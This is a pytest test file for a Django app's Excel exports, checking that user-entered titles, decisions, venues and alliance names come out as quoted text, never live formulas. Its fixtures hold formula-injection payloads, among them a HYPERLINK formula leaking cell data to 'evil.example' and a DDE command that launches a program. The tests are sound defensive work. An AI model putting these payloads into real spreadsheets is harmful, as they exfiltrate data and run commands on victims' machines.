"""Excel exports write what users typed as text: no cell is a formula the project did not compute.

A secretary's activity titled ``=HYPERLINK(...)`` must reach the committee as those exact
characters in a text cell, not as a live link that sends the neighbouring cells away; the
same for meeting decisions and topics, venues, unit and alliance names, and for the other
prefixes spreadsheet programs read as formulas (``+ - @``, a leading tab or carriage return).
"""

import io
from datetime import date

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from alliances.models import Attendance
from tests.factories import (
    ActivityFactory,
    AllianceFactory,
    BranchFactory,
    MeetingFactory,
    MembershipFactory,
    UserFactory,
)

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
DECISIONS = ["=1+1", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1"]
TOPIC = "=cmd|' /C calc'!A0"
ALLIANCE = '=A1&"联盟"'
VENUE = "@SUM(A1:A9)"
UNIT = "-2+3"


@pytest.fixture
def hostile_year(db):
    alliance = AllianceFactory(name=ALLIANCE, slug="hostile", founded_on=date(2025, 1, 1))
    lead = MembershipFactory(
        alliance=alliance, is_lead=True, branch=BranchFactory(unit=UNIT)
    ).branch
    secretary = UserFactory(username="sec-hostile")
    alliance.secretaries.add(secretary)
    activity = ActivityFactory(
        alliance=alliance,
        host=lead,
        held_on=date(2025, 2, 28),
        title=HYPERLINK,
        venue=VENUE,
        description="<p>=1+1</p>",
    )
    Attendance.objects.create(activity=activity, branch=lead, head_count=7)
    for day, decisions in enumerate(DECISIONS, start=1):
        MeetingFactory(
            alliance=alliance,
            host=lead,
            held_on=date(2025, 3, day),
            is_regular=day == 1,
            topics=TOPIC,
            decisions=decisions,
        )
    return alliance, secretary


def download(client, url, **query):
    response = client.get(url, query)
    assert response.status_code == 200
    return load_workbook(io.BytesIO(response.content))


def cells(book):
    return [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value]


def assert_text_only(book, expected):
    formulas = [(cell.coordinate, cell.value) for cell in cells(book) if cell.data_type == "f"]
    assert formulas == []
    text = {cell.value: cell for cell in cells(book) if cell.data_type == "s"}
    expected = [xml_line_ends(value) for value in expected]
    missing = [value for value in expected if value not in text]
    assert missing == []
    # Typed again in Excel or WPS (F2, Enter), such a cell stays text: the quote prefix.
    assert all(text[value].quotePrefix for value in expected)


def xml_line_ends(value):
    """The workbook is XML, whose parsers read a carriage return as a line feed."""
    return value.replace("\r\n", "\n").replace("\r", "\n")


def test_the_ledger_writes_titles_decisions_and_venues_as_exact_text(client, hostile_year):
    alliance, secretary = hostile_year
    client.force_login(secretary)
    book = download(client, reverse("workspace:ledger_xlsx", args=[alliance.slug, 2025]))
    assert_text_only(book, [HYPERLINK, VENUE, UNIT, "=1+1", *DECISIONS])
    assert book["2025年台账"]["A1"].value == f"{ALLIANCE}2025年度党建工作台账"


def test_the_ledger_keeps_the_numbers_it_computes(client, hostile_year):
    alliance, secretary = hostile_year
    client.force_login(secretary)
    sheet = download(client, reverse("workspace:ledger_xlsx", args=[alliance.slug, 2025]))[
        "2025年台账"
    ]
    activity = next(row for row in sheet.iter_rows(min_row=3) if row[3].value == HYPERLINK)
    number, held_on, *_, total, guests, _, _, photos = activity
    assert (number.data_type, number.value) == ("n", 1)
    assert held_on.is_date and held_on.value.date() == date(2025, 2, 28)
    assert (total.data_type, total.value) == ("n", 7)
    assert (guests.data_type, guests.value) == ("n", 0)  # 列席人数, beside the members
    assert (photos.data_type, photos.value) == ("n", 0)


def test_the_overview_writes_alliance_names_as_exact_text(client, committee, hostile_year):
    client.force_login(committee)
    book = download(client, reverse("workspace:overview_xlsx"), year=2025)
    assert_text_only(book, [ALLIANCE])
    row = next(row for row in book.active.iter_rows(min_row=3) if row[0].value == ALLIANCE)
    activities, participation = row[-4], row[-3]
    assert (activities.data_type, activities.value) == ("n", 1)
    assert (participation.data_type, participation.value) == ("n", 7)


def test_control_characters_pasted_from_word_do_not_break_the_ledger(client, hostile_year):
    """XML cannot hold them, and openpyxl raised: one pasted title made the download a 500."""
    alliance, secretary = hostile_year
    ActivityFactory(alliance=alliance, held_on=date(2025, 6, 1), title="第一行\x0b第二行\x01")
    client.force_login(secretary)
    book = download(client, reverse("workspace:ledger_xlsx", args=[alliance.slug, 2025]))
    titles = [row[3].value for row in book["2025年台账"].iter_rows(min_row=3)]
    assert "第一行\n第二行" in titles
